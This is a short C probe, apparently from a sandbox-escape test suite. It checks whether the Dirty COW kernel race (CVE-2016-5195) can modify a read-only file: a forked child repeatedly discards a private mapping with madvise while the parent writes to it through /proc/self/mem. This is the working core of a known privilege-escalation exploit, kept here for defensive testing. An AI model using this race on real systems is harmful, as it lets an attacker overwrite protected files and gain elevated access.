/* attack: writes to a read-only mapping while the kernel throws the copy away ("Dirty COW")
   escaped: the file is changed
   layer: mount
   control: none: kernels are mended
   source: CVE-2016-5195 */
#include "probe.h"

PROBE() {
  const int fd = open(ReadOnly("file"), O_RDONLY);
  char* map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  if (map == MAP_FAILED) Cannot("cannot map the file");
  const long memory = TRY(SYS_openat, AT_FDCWD, "/proc/self/mem", O_RDWR, 0);
  if (memory < 0) return;
  const pid_t child = fork();
  if (child == 0)
    for (;;) madvise(map, 4096, MADV_DONTNEED);
  for (int i = 0; i < 2000; ++i) pwrite((int)memory, "x", 1, (off_t)(uintptr_t)map);
  kill(child, SIGKILL);
  Escaped("/proc/self/mem opens for writing");
}
